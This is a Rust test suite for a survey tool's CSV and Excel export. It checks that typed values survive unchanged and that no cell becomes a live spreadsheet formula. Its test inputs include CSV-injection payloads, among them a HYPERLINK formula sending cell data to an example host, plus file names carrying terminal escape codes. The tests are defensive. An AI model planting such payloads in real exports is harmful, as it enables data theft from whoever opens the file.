//! What the data manager opens is what was typed: a form built to break
//! the tables (repeats named `choices` and `records`, two repeats sharing
//! their first 31 characters, a choice named `label`, a geopoint, text
//! that looks like numbers and formulas) is filled with the real binary,
//! exported and aggregated; the CSV is read back with the csv crate and
//! the workbook with calamine, and every cell is compared with what
//! `fill` was given.

use std::path::{Path, PathBuf};

use calamine::{Data, Reader};
use serde_json::{Value, json};

use crate::support::{Enumerator, repo, stderr};

const FORM: &str = r##"
[settings]
form_id = "tricky"
version = "1"
form_title = "Tricky"
default_language = "English (en)"

[[survey]]
type = "text"
name = "phone"
label = "Phone"

[[survey]]
type = "text"
name = "remark"
label = "Remark"

[[survey]]
type = "integer"
name = "people"
label = "People"

[[survey]]
type = "decimal"
name = "share"
label = "Share"

[[survey]]
type = "date"
name = "seen"
label = "Seen"

[[survey]]
type = "select_one districts"
name = "district"
label = "District"

[[survey]]
type = "begin_group"
name = "grp"
label = "Group"

[[survey]]
type = "select_multiple tags"
name = "tags"
label = "Tags"

[[survey]]
type = "geopoint"
name = "loc"
label = "Location"
hxl = "#geo+coord"

[[survey]]
type = "end_group"

[[survey]]
type = "begin_repeat"
name = "choices"
label = "A repeat named choices"

[[survey]]
type = "text"
name = "what"
label = "What"

[[survey]]
type = "end_repeat"

[[survey]]
type = "begin_repeat"
name = "records"
label = "A repeat named records"

[[survey]]
type = "integer"
name = "count"
label = "Count"

[[survey]]
type = "end_repeat"

[[survey]]
type = "begin_repeat"
name = "household_members_of_the_family_a"
label = "A"

[[survey]]
type = "text"
name = "a_name"
label = "Name"

[[survey]]
type = "end_repeat"

[[survey]]
type = "begin_repeat"
name = "household_members_of_the_family_b"
label = "B"

[[survey]]
type = "text"
name = "b_name"
label = "Name"

[[survey]]
type = "end_repeat"

[[choices]]
list_name = "districts"
name = "LA0603"
label = { "English (en)" = "Nan", "Lao (lo)" = "ນານ" }

[[choices]]
list_name = "districts"
name = "Nan"
label = { "English (en)" = "Nan (code)", "Lao (lo)" = "ນານ (ລະຫັດ)" }

[[choices]]
list_name = "districts"
name = "0012"
label = { "English (en)" = "Twelve", "Lao (lo)" = "ສິບສອງ" }

[[choices]]
list_name = "tags"
name = "label"
label = { "English (en)" = "A label", "Lao (lo)" = "ປ້າຍ" }

[[choices]]
list_name = "tags"
name = "red"
label = { "English (en)" = "Red", "Lao (lo)" = "ສີແດງ" }
"##;

/// Text that spreadsheets and naive writers change: numbers that are not
/// numbers, formulas, quotes, tabs.
const TRICKY: [&str; 16] = [
    "+856 20 5555 1234",
    "0205551234",
    "0012",
    "Nan",
    "1e3",
    "-0",
    "inf",
    "=HYPERLINK(\"http://example.org/?d=\"&A1,\"click\")",
    "=1+2",
    "+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+2",
    "'quoted",
    "''=1",
    "-5",
];

/// The records `fill` is given: one per tricky text.
fn answers() -> Vec<Value> {
    TRICKY
        .iter()
        .enumerate()
        .map(|(i, t)| {
            let district = ["LA0603", "Nan", "0012"][i % 3];
            let people = [-5, 0, 120_000][i % 3];
            let share = [-0.5, 36.6, 0.125][i % 3];
            json!({
                "phone": TRICKY[(i + 1) % TRICKY.len()],
                "remark": t,
                "people": people,
                "share": share,
                "seen": "2026-11-20",
                "district": district,
                "tags": if i % 2 == 0 { vec!["label", "red"] } else { vec!["red"] },
                "loc": "-17.9757 102.6331 170 5",
                "choices": [{"what": t}, {"what": "plain"}],
                "records": [{"count": i as i64 - 3}],
                "household_members_of_the_family_a": [{"a_name": "A"}],
                "household_members_of_the_family_b": [{"b_name": t}],
            })
        })
        .collect()
}

/// Fills the tricky form's records, exports and aggregates them with
/// `extra` options; (output folder, run, temp dir kept alive).
fn run(extra: &[&str], before: impl Fn(&Path)) -> (PathBuf, std::process::Output, Enumerator) {
    let e = Enumerator::init("enum-07");
    let form = e.dir.path().join("tricky.toml");
    std::fs::write(&form, FORM).unwrap();
    let lines: Vec<String> = answers().iter().map(Value::to_string).collect();
    crate::aggregate::fill(&e, form.to_str().unwrap(), &lines);
    let usb = e.dir.path().join("usb");
    std::fs::create_dir_all(&usb).unwrap();
    crate::aggregate::export(&e, &usb);
    let signers = e.dir.path().join("allowed_signers");
    std::fs::write(&signers, format!("{}\n", e.signers_line)).unwrap();
    let tables = e.dir.path().join("tables");
    std::fs::create_dir_all(&tables).unwrap();
    before(&tables);
    let key = repo().join("keys/demo/data-manager.key");
    let mut args = vec![
        "aggregate",
        "--identity",
        key.to_str().unwrap(),
        "--out",
        tables.to_str().unwrap(),
        "--signers",
        signers.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    args.push(usb.to_str().unwrap());
    let run = crate::support::fieldkit(&args);
    (tables, run, e)
}

/// A CSV table: header and rows, the `'` guard removed as the README
/// says (one leading `'`), after checking that no cell would start a
/// formula in a spreadsheet.
fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = std::fs::read(path).unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..]);
    let mut rows: Vec<Vec<String>> = Vec::new();
    for rec in reader.records() {
        let rec = rec.unwrap();
        let mut row = Vec::new();
        for cell in rec.iter() {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '@' | '\t' | '\r')),
                "{cell:?} would start a formula in {}",
                path.display()
            );
            if first == Some('-') {
                assert!(
                    cell.parse::<f64>().is_ok(),
                    "{cell:?} would start a formula in {}",
                    path.display()
                );
            }
            row.push(cell.strip_prefix('\'').unwrap_or(cell).to_string());
        }
        rows.push(row);
    }
    let header = rows.remove(0);
    (header, rows)
}

fn col(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

#[test]
fn csv_cells_are_what_fill_was_given_and_start_no_formula() {
    let (tables, run, _e) = run(&["--labels"], |_| {});
    assert_eq!(run.status.code(), Some(0), "{}", stderr(&run));
    let given = answers();
    let (header, rows) = read_csv(&tables.join("tricky.csv"));
    assert_eq!(rows.len(), given.len());
    // Headers never collide: the 0/1 column of the choice `label` and
    // the label column are both there, and every header is unique.
    let mut unique = header.clone();
    unique.sort();
    unique.dedup();
    assert_eq!(unique.len(), header.len(), "{header:?}");
    let flag = col(&header, "grp/tags/label");
    let labels = col(&header, "grp/tags:label");
    for (row, g) in rows.iter().zip(&given) {
        assert_eq!(row[col(&header, "phone")], g["phone"].as_str().unwrap());
        assert_eq!(row[col(&header, "remark")], g["remark"].as_str().unwrap());
        assert_eq!(row[col(&header, "people")], g["people"].to_string());
        assert_eq!(row[col(&header, "share")], g["share"].to_string());
        assert_eq!(
            row[col(&header, "district")],
            g["district"].as_str().unwrap()
        );
        let tags: Vec<&str> = g["tags"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t.as_str().unwrap())
            .collect();
        assert_eq!(row[col(&header, "grp/tags")], tags.join(" "));
        assert_eq!(row[flag], if tags.contains(&"label") { "1" } else { "0" });
        assert!(row[labels].contains("Red"), "{}", row[labels]);
        // Geopoints: the whole answer and Kobo's split columns.
        assert_eq!(row[col(&header, "grp/loc")], "-17.9757 102.6331 170 5");
        assert_eq!(row[col(&header, "grp/_loc_latitude")], "-17.9757");
        assert_eq!(row[col(&header, "grp/_loc_longitude")], "102.6331");
        assert_eq!(row[col(&header, "grp/_loc_altitude")], "170");
        assert_eq!(row[col(&header, "grp/_loc_precision")], "5");
    }
    // A negative number in an integer field stays a number, unguarded.
    let raw = std::fs::read_to_string(tables.join("tricky.csv")).unwrap();
    assert!(raw.contains(",-5,"), "{raw}");
    assert!(raw.contains("\"'=1+2\""), "the guard is a leading ': {raw}");
    // Repeats, whatever their names.
    let (rh, rrows) = read_csv(&tables.join("tricky__choices.csv"));
    let whats: Vec<&str> = rrows
        .iter()
        .filter(|r| r[col(&rh, "index")] == "1")
        .map(|r| r[col(&rh, "what")].as_str())
        .collect();
    assert_eq!(whats, TRICKY);
    let (bh, brows) = read_csv(&tables.join("tricky__household_members_of_the_family_b.csv"));
    let names: Vec<&str> = brows
        .iter()
        .map(|r| r[col(&bh, "b_name")].as_str())
        .collect();
    assert_eq!(names, TRICKY);
}

fn sheet(
    book: &mut calamine::Xlsx<std::io::BufReader<std::fs::File>>,
    name: &str,
) -> Vec<Vec<Data>> {
    let range = book
        .worksheet_range(name)
        .unwrap_or_else(|e| panic!("sheet {name}: {e}"));
    range.rows().map(<[Data]>::to_vec).collect()
}

fn text(d: &Data) -> String {
    match d {
        Data::String(s) => s.clone(),
        Data::Empty => String::new(),
        other => panic!("{other:?} is not text"),
    }
}

#[test]
fn workbook_cells_take_their_type_from_the_field_and_sheets_never_clash() {
    let (tables, run, _e) = run(&["--xlsx", "--hxl", "--labels=Lao (lo)"], |_| {});
    assert_eq!(run.status.code(), Some(0), "{}", stderr(&run));
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(tables.join("tricky.xlsx")).unwrap();
    let names = book.sheet_names().to_vec();
    // Records, four repeats', paradata (none: fill makes no paradata),
    // choices.
    assert_eq!(names.len(), 7, "{names:?}");
    let mut lower: Vec<String> = names.iter().map(|n| n.to_lowercase()).collect();
    lower.sort();
    lower.dedup();
    assert_eq!(lower.len(), 7, "sheet names unique: {names:?}");
    assert!(names.iter().all(|n| n.chars().count() <= 31), "{names:?}");
    assert_eq!(names[0], "records");
    assert_eq!(names[5], "paradata");
    assert_eq!(names[6], "choices");

    let given = answers();
    let rows = sheet(&mut book, "records");
    let header: Vec<String> = rows[0].iter().map(text).collect();
    let hxl: Vec<String> = rows[1].iter().map(text).collect();
    assert_eq!(hxl[col(&header, "grp/_loc_latitude")], "#geo+lat");
    assert_eq!(hxl[col(&header, "grp/_loc_longitude")], "#geo+lon");
    assert_eq!(hxl[col(&header, "grp/loc")], "#geo+coord");
    let data = &rows[2..];
    assert_eq!(data.len(), given.len());
    for (row, g) in data.iter().zip(&given) {
        // Metadata and text: text exactly as typed.
        assert!(matches!(row[0], Data::String(_)), "{:?}", row[0]);
        for name in ["phone", "remark", "district"] {
            assert_eq!(
                row[col(&header, name)],
                Data::String(g[name].as_str().unwrap().into()),
                "{name}"
            );
        }
        assert_eq!(row[col(&header, "seen")], Data::String("2026-11-20".into()));
        // Numbers from number fields.
        assert_eq!(
            row[col(&header, "people")],
            Data::Float(g["people"].as_f64().unwrap())
        );
        assert_eq!(
            row[col(&header, "share")],
            Data::Float(g["share"].as_f64().unwrap())
        );
        assert_eq!(
            row[col(&header, "grp/_loc_latitude")],
            Data::Float(-17.9757)
        );
        assert_eq!(row[col(&header, "grp/_loc_precision")], Data::Float(5.0));
        assert!(matches!(row[col(&header, "grp/tags/red")], Data::Float(f) if f == 1.0));
        assert!(
            text(&row[col(&header, "grp/tags:label")]).contains("ສີແດງ"),
            "labels in Lao"
        );
    }
    // Repeats: a sheet each, text as typed.
    for (i, table) in ["choices", "household_members_of_the_family_b"]
        .iter()
        .enumerate()
    {
        let name = names
            .iter()
            .find(|n| {
                let rows = sheet(&mut book, n);
                rows.first()
                    .is_some_and(|h| h.last().map(text).as_deref() == Some(["what", "b_name"][i]))
            })
            .unwrap_or_else(|| panic!("no sheet for {table} in {names:?}"))
            .clone();
        let rows = sheet(&mut book, &name);
        let texts: Vec<Data> = rows[2..]
            .iter()
            .filter(|r| r[3] == Data::Float(1.0))
            .map(|r| r.last().unwrap().clone())
            .collect();
        let want: Vec<Data> = TRICKY.iter().map(|t| Data::String(t.to_string())).collect();
        assert_eq!(texts, want, "{table}");
    }
    // The choices sheet follows --labels, and has every language.
    let choices = sheet(&mut book, "choices");
    let head: Vec<String> = choices[0].iter().map(text).collect();
    assert_eq!(
        head,
        [
            "list_name",
            "name",
            "label",
            "label::English (en)",
            "label::Lao (lo)"
        ]
    );
    let nan: Vec<String> = choices
        .iter()
        .find(|r| text(&r[1]) == "Nan")
        .unwrap()
        .iter()
        .map(text)
        .collect();
    assert_eq!(
        nan,
        ["districts", "Nan", "ນານ (ລະຫັດ)", "Nan (code)", "ນານ (ລະຫັດ)"]
    );
}

#[test]
fn a_workbook_that_cannot_be_written_costs_neither_summary_nor_tables() {
    // A folder where the workbook should go: it cannot be written.
    let (tables, run, _e) = run(&["--xlsx"], |out| {
        std::fs::create_dir_all(out.join("tricky.xlsx").join("in-the-way")).unwrap();
    });
    let err = stderr(&run);
    assert_eq!(run.status.code(), Some(1), "a problem: {err}");
    assert!(err.contains("1 problem(s)"), "{err}");
    assert!(
        err.lines()
            .any(|l| l.starts_with("  - workbook: cannot write tricky.xlsx")),
        "each problem on the terminal: {err}"
    );
    let summary: Value =
        serde_json::from_slice(&std::fs::read(tables.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["records"], TRICKY.len());
    assert_eq!(summary["workbook_problems"].as_array().unwrap().len(), 1);
    let (_, rows) = read_csv(&tables.join("tricky.csv"));
    assert_eq!(rows.len(), TRICKY.len());
}

#[test]
fn the_terminal_lists_problems_up_to_twenty() {
    let (tables, run, e) = run(&[], |_| {});
    assert_eq!(run.status.code(), Some(0), "{}", stderr(&run));
    // 25 damaged copies of the bundle: 25 problems.
    let usb = e.dir.path().join("usb");
    let bundle = std::fs::read_dir(&usb)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let mut bytes = std::fs::read(&bundle).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 1;
    let bad = e.dir.path().join("bad");
    std::fs::create_dir_all(&bad).unwrap();
    for i in 0..25 {
        std::fs::write(bad.join(format!("damaged-{i:02}\u{1b}[31m.zip")), &bytes).unwrap();
    }
    let key = repo().join("keys/demo/data-manager.key");
    let signers = e.dir.path().join("allowed_signers");
    let again = crate::support::fieldkit(&[
        "aggregate",
        "--identity",
        key.to_str().unwrap(),
        "--out",
        tables.to_str().unwrap(),
        "--signers",
        signers.to_str().unwrap(),
        bad.to_str().unwrap(),
    ]);
    let err = stderr(&again);
    assert_eq!(again.status.code(), Some(1), "{err}");
    let listed: Vec<&str> = err.lines().filter(|l| l.starts_with("  - ")).collect();
    assert_eq!(listed.len(), 20, "{err}");
    assert!(listed[0].contains("damaged-00"), "{err}");
    assert!(
        !err.contains('\u{1b}'),
        "control characters escaped: {err:?}"
    );
    assert!(err.contains("  ... and 5 more (see summary.md)"), "{err}");
}

/// Converts a CSV to XLSX with LibreOffice headless, formulas evaluated
/// (the worst case of a double-click); the formulas calamine finds in it.
fn libreoffice_formulas(csv_file: &Path, dir: &Path) -> Vec<String> {
    let profile = dir.join("lo-profile");
    let out = std::process::Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args([
            "--headless",
            "--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true",
            "--convert-to",
            "xlsx",
            "--outdir",
        ])
        .arg(dir)
        .arg(csv_file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let xlsx = dir.join(csv_file.with_extension("xlsx").file_name().unwrap());
    let mut book: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).unwrap();
    let name = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&name).unwrap();
    formulas
        .rows()
        .flatten()
        .filter(|f| !f.is_empty())
        .cloned()
        .collect()
}

#[test]
fn libreoffice_opens_the_csv_without_a_single_formula() {
    if !crate::support::have(
        "soffice",
        "libreoffice_opens_the_csv_without_a_single_formula",
    ) {
        return;
    }
    let (tables, run, e) = run(&[], |_| {});
    assert_eq!(run.status.code(), Some(0), "{}", stderr(&run));
    let dir = e.dir.path().join("lo");
    std::fs::create_dir_all(&dir).unwrap();
    // The check can fail: a raw formula is a formula once opened.
    let control = dir.join("control.csv");
    std::fs::write(&control, "a,b\n=1+2,x\n").unwrap();
    assert_eq!(libreoffice_formulas(&control, &dir), ["1+2"]);
    for table in ["tricky.csv", "tricky__choices.csv"] {
        let formulas = libreoffice_formulas(&tables.join(table), &dir);
        assert!(formulas.is_empty(), "{table}: {formulas:?}");
    }
}
